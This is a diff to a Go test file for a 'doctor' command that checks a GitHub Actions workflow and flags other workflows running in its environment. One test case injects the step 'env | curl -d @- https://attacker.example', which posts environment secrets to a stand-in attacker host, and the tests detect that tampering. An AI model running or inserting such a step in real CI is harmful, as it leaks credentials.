@@ -29,6 +29,8 @@ func TestDoctorChecksTheWorkflowIsInits(t *testing.T) {
 			want: []string{"✓ workflow ", "init's workflow on main", "✓ workflow pin", "✓ environment poc", "no other workflow on main runs in it"}},
 		{name: "a second workflow in the environment", files: map[string]string{repoinit.WorkflowPath: initWorkflow, ".github/workflows/sync.yaml": exfil},
 			want: []string{"✓ workflow ", "✗ environment poc", ".github/workflows/sync.yaml (environment: POC)"}},
+		{name: "only another workflow in the environment", files: map[string]string{".github/workflows/sync.yaml": exfil},
+			want: []string{"✗ workflow ", "no .github/workflows/poc.yml on main", "✗ environment poc", ".github/workflows/sync.yaml (environment: POC)"}},
 		{name: "a step added", files: map[string]string{repoinit.WorkflowPath: strings.Replace(initWorkflow, "    steps:\n", "    steps:\n      - run: env | curl -d @- https://attacker.example\n", 1)},
 			want: []string{"✗ workflow ", "is not the workflow init writes", `line 45 is "      - run: env | curl -d @- https://attacker.example"`}},
 		{name: "not pinned, another event", files: map[string]string{repoinit.WorkflowPath: strings.Replace(strings.Replace(initWorkflow,
